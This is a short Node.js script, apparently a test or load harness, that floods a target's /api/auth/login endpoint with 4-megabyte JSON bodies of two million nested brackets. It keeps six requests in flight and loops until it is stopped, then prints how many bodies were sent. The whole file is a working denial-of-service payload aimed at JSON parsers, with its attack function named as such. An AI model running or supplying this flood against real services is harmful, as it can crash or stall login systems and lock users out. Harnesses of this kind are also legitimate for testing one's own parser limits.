// Sends nested brackets to the sign-in until it is stopped, and then prints how many bodies it sent.
import { request } from 'node:http';

const [, , url, localAddress] = process.argv;
const half = 2_000_000;
const body = Buffer.from('['.repeat(half) + ']'.repeat(half));
const atOnce = 6;
let sent = 0;

function attack() {
  const outgoing = request(`${url}/api/auth/login`, {
    method: 'POST',
    localAddress,
    headers: { 'content-type': 'application/json', 'content-length': body.length },
  });
  let over = false;
  const again = () => {
    if (over) return;
    over = true;
    sent += 1;
    setTimeout(attack, 1);
  };
  outgoing.on('response', (answer) => answer.resume().on('close', again));
  outgoing.on('error', again);
  outgoing.end(body);
}

process.stdin.on('end', () => process.exit()).resume();
process.on('SIGTERM', () => {
  process.stdout.write(`${sent}\n`, () => process.exit());
});
for (let n = 0; n < atOnce; n += 1) attack();
